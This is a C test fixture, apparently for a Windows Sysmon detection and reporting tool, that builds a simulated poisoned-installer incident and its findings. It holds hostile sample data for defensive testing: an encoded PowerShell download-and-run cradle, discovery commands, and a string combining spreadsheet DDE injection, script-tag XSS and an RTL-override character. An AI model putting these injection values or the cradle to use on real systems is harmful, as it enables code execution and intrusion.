/* SPDX-License-Identifier: Apache-2.0 */
#include "report-case.h"

#include "facts-parts.h"
#include "lineage/lineage.h"

#include <check.h>

#define SETUP "C:\\Users\\ann\\AppData\\Local\\Temp\\setup.exe"
#define SHELL "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define AGENT "C:\\Program Files\\Contoso\\Agent\\agent.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define EXPLORER "C:\\Windows\\explorer.exe"
#define HASHES                                                                 \
    "SHA1=0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C,"                           \
    "MD5=00112233445566778899AABBCCDDEEFF,"                                    \
    "SHA256=000102030405060708090A0B0C0D0E0F101112131415161718191A1B1C1D1E1F," \
    "IMPHASH=FFEEDDCCBBAA99887766554433221100"

static int64_t
process_of(struct facts *f, int64_t event)
{
    return event ? facts_run(f, "SELECT id FROM process WHERE event = ?1", "i",
                             event)
                 : 0;
}

static int64_t
host_of(struct facts *f, int64_t event)
{
    return facts_run(f,
                     "SELECT h.host FROM event e JOIN stream s ON "
                     "s.id = e.stream JOIN host_computer h ON "
                     "h.computer = s.computer WHERE e.id = ?1",
                     "i", event);
}

void
found_incident(struct facts *f, const char *key, int64_t root_event,
               int64_t level)
{
    (void)facts_run(f,
                    "INSERT INTO incident SELECT NULL, ?1, ?2, ?3, ?4, ?4, "
                    "2, time, time, ?1 FROM event WHERE id = ?5",
                    "tiiii", key, host_of(f, root_event),
                    process_of(f, root_event), level, root_event);
}

void
found_add(struct facts *f, const struct found *x)
{
    int64_t process = process_of(f, x->event), id;
    int64_t level = x->level ? x->level : 4;

    (void)facts_run(
        f,
        "INSERT INTO finding VALUES (NULL, ?1, ?2, ?3, ?4, max(?5, 0), "
        "max(?6, 0), ?7, ?8, ?9, ?10, ?11, ?12, COALESCE((SELECT id FROM "
        "incident WHERE key = ?13), 0), ?14)",
        "ttiiiiiiittttt", x->key,
        x->rule ? x->rule : "installer-spawned-lolbin", host_of(f, x->event),
        x->event, process, process_of(f, x->related_event),
        x->base_level ? x->base_level : level, level,
        x->confidence ? x->confidence : 2, x->tuning, x->summary,
        x->details ? x->details : "{}", x->incident, x->suppressed);
    id = stm_db_last_id(f->db);
    (void)facts_run(f,
                    "UPDATE incident SET last_time = max(last_time, (SELECT "
                    "time FROM event WHERE id = ?1)) WHERE key = ?2",
                    "it", x->event, x->incident);
    if (x->evidence_event)
        (void)facts_run(f,
                        "INSERT INTO finding_evidence VALUES (?1, "
                        "'write_event', ?2)",
                        "ii", id, x->evidence_event);
}

void
found_rule(struct facts *f, const char *rule, const char *title,
           int64_t evaluable, const char *reason)
{
    (void)facts_run(f,
                    "INSERT INTO rule_run VALUES (?1, ?2, 4, "
                    "'T1195, T1195.002', 'sysmon:1', 'A poisoned installer "
                    "runs its payload through what Windows already has.', "
                    "'Deployment tools do this by design.', zeroblob(32), 1, "
                    "NULL)",
                    "tt", rule, title);
    (void)facts_run(f,
                    "INSERT INTO rule_host SELECT ?1, id, ?2, ?3 FROM host "
                    "WHERE id <> 0",
                    "tit", rule, evaluable, reason);
}

/* The events of WS-ANN: installer, shell, what they wrote, agent, cmd. */
struct ann {
    int64_t setup, shell, script, agent, cmd, ping;
};

static void
add_ann(struct facts *f, struct ann *ann)
{
#define ANN                                                                    \
    .computer = "WS-ANN", .file = "ann/Sysmon.evtx", .user = "WS-ANN\\ann"
    ann->setup = FACT_PROCESS(
        f, ANN, .time = "09:14:07.123", .guid = "setup@09:14:07", .pid = 4711,
        .image = SETUP, .command_line = "\"" SETUP "\" /S", .hashes = HASHES,
        .company = "Contoso Ltd", .product = "Contoso Agent",
        .integrity = "High", .original_name = "setup.exe",
        .parent_guid = "explorer@07:58:10", .parent_pid = 1200,
        .parent_image = EXPLORER, .parent_command_line = EXPLORER);
    (void)FACT_FILE(f, ANN, .time = "09:14:08", .guid = "setup@09:14:07",
                    .pid = 4711, .image = SETUP,
                    .target = "C:\\ProgramData\\Contoso\\payload.dll");
    ann->shell = FACT_PROCESS(
        f, ANN, .time = "09:14:09.5", .guid = "shell@09:14:09",
        .started = "09:13:58.5", .pid = 4800, .image = SHELL, .hashes = HASHES,
        .command_line = "powershell.exe -NoProfile -EncodedCommand "
                        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"
                        "AFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
                        "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAA",
        .company = "Microsoft Corporation", .integrity = "High",
        .parent_guid = "setup@09:14:07", .parent_pid = 4711,
        .parent_image = SETUP, .parent_command_line = "\"" SETUP "\" /S");
    ann->script =
        FACT_FILE(f, ANN, .time = "09:14:11", .guid = "shell@09:14:09",
                  .pid = 4800, .image = SHELL,
                  .target = "C:\\Users\\ann\\AppData\\Roaming\\update.ps1");
    ann->ping = FACT_PROCESS(
        f, ANN, .time = "09:14:12", .guid = "ping@09:14:12", .pid = 4810,
        .image = "C:\\Windows\\System32\\whoami.exe",
        .command_line = "whoami /all", .parent_guid = "shell@09:14:09",
        .parent_pid = 4800, .parent_image = SHELL);
    ann->agent = FACT_PROCESS(
        f, ANN, .time = "08:00:01", .guid = "agent@08:00:01", .pid = 2000,
        .image = AGENT, .command_line = "\"" AGENT "\" --service",
        .hashes = HASHES, .company = "Contoso Ltd", .integrity = "System",
        .parent_guid = "services@07:58:00", .parent_pid = 700,
        .parent_image = "C:\\Windows\\System32\\services.exe");
    ann->cmd = FACT_PROCESS(
        f, ANN, .time = "10:30:00", .guid = "cmd@10:30:00", .pid = 5200,
        .image = CMD, .command_line = "cmd.exe /c net group \"Domain Admins\"",
        .hashes = HASHES, .company = "Microsoft Corporation",
        .parent_guid = "agent@08:00:01", .parent_pid = 2000,
        .parent_image = AGENT,
        .parent_command_line = "\"" AGENT "\" --service");
    (void)FACT_END(f, ANN, .time = "10:31:00", .guid = "cmd@10:30:00",
                   .pid = 5200, .image = CMD);
#undef ANN
}

#define EVIL                                                                   \
    "=cmd|' /c "                                                               \
    "calc'!A1</td><script>alert(\"1\")</script>\xe2\x80\xae&amp;\x07"

const char report_case_evil[] = EVIL;

static int64_t
add_hostile(struct facts *f)
{
    return FACT_PROCESS(
        f, .computer = "HOSTILE<b>", .machine = 0x77, .time = "11:00:00",
        .file = "=evil/<img src=x>.evtx", .guid = "x@11:00:00", .pid = 9,
        .image = "C:\\" EVIL "\\" EVIL ".exe", .command_line = EVIL,
        .user = EVIL, .company = EVIL, .product = EVIL, .hashes = HASHES,
        .parent_pid = 8, .parent_image = EVIL, .parent_command_line = EVIL);
}

static void
add_findings(struct facts *f, const struct ann *ann, int64_t hostile)
{
    found_incident(f, "aaaaaaaaaaaaaaaa", ann->setup, 4);
    FOUND(f, .key = "1111111111111111", .event = ann->shell,
          .related_event = ann->setup, .incident = "aaaaaaaaaaaaaaaa",
          .evidence_event = ann->script,
          .summary = "setup.exe started powershell.exe",
          .details = "{\"company_knowledge\":\"observed\"}");
    FOUND(f, .key = "2222222222222222", .event = ann->ping, .rule = "discovery",
          .incident = "aaaaaaaaaaaaaaaa", .level = 2, .base_level = 3,
          .confidence = 1,
          .tuning = "[{\"id\":\"known-deployment\",\"reason\":\"the parent "
                    "is a known deployment tool\"}]",
          .summary = "whoami.exe ran below an installer",
          .details = "{\"steps\":2, \"chain\":\"setup.exe > powershell.exe\"}");
    found_incident(f, "bbbbbbbbbbbbbbbb", ann->agent, 3);
    FOUND(f, .key = "3333333333333333", .event = ann->cmd, .level = 3,
          .rule = "trusted-software-spawned-shell", .related_event = ann->agent,
          .incident = "bbbbbbbbbbbbbbbb",
          .summary = "agent.exe of Contoso Ltd started cmd.exe",
          .details = "{\"company_knowledge\":\"observed\"}");
    FOUND(f, .key = "4444444444444444", .event = ann->cmd,
          .related_event = ann->agent, .incident = "bbbbbbbbbbbbbbbb",
          .suppressed = "known to the analyst",
          .summary = "agent.exe started cmd.exe");
    found_incident(f, "cccccccccccccccc", hostile, 4);
    FOUND(f, .key = "5555555555555555", .event = hostile,
          .rule = "trusted-software-spawned-shell",
          .incident = "cccccccccccccccc", .summary = EVIL,
          .details = "{\"company_knowledge\":\"unknown\",\"<i>\":\"</dd>\"}");
}

struct facts *
report_case_open(void)
{
    struct facts *f = facts_open();
    struct stm_err err = { 0 };
    struct ann ann = { 0 };
    int64_t hostile;

    (void)facts_run(f, "INSERT INTO bundle VALUES (1, 'ann', 'folder', 3, 5)",
                    "");
    (void)facts_run(f, "INSERT INTO bundle VALUES (2, 'empty', 'folder', 0, 3)",
                    "");
    add_ann(f, &ann);
    hostile = add_hostile(f);
    (void)FACT_EVENT(f, .computer = "SRV-1", .channel = "System",
                     .provider = "EventLog", .event_id = 6005, .machine = 0,
                     .file = "srv/System.evtx", .time = "07:00:00");
    (void)facts_run(f,
                    "INSERT INTO issue SELECT NULL, id, 'truncated', 'loss', "
                    "65536, NULL, 1, 'the file ends inside chunk 1' FROM "
                    "evidence WHERE name = 'ann/Sysmon.evtx'",
                    "");
    (void)facts_run(f,
                    "INSERT INTO issue VALUES (NULL, 0, 'missing', 'loss', "
                    "NULL, NULL, 1, 'bob: no such file')",
                    "");
    (void)facts_run(f, "INSERT INTO expected_host VALUES ('ws-bob')", "");
    if (stm_lineage_build(f->db, NULL, &err))
        ck_abort_msg("%s", err.text);
    found_rule(f, "installer-spawned-lolbin",
               "Installer or updater starts a living-off-the-land binary", 1,
               "7 process creations");
    found_rule(f, "trusted-software-spawned-shell",
               "Trusted software starts a shell", 0,
               "no event 1 with a company");
    add_findings(f, &ann, hostile);
    return f;
}
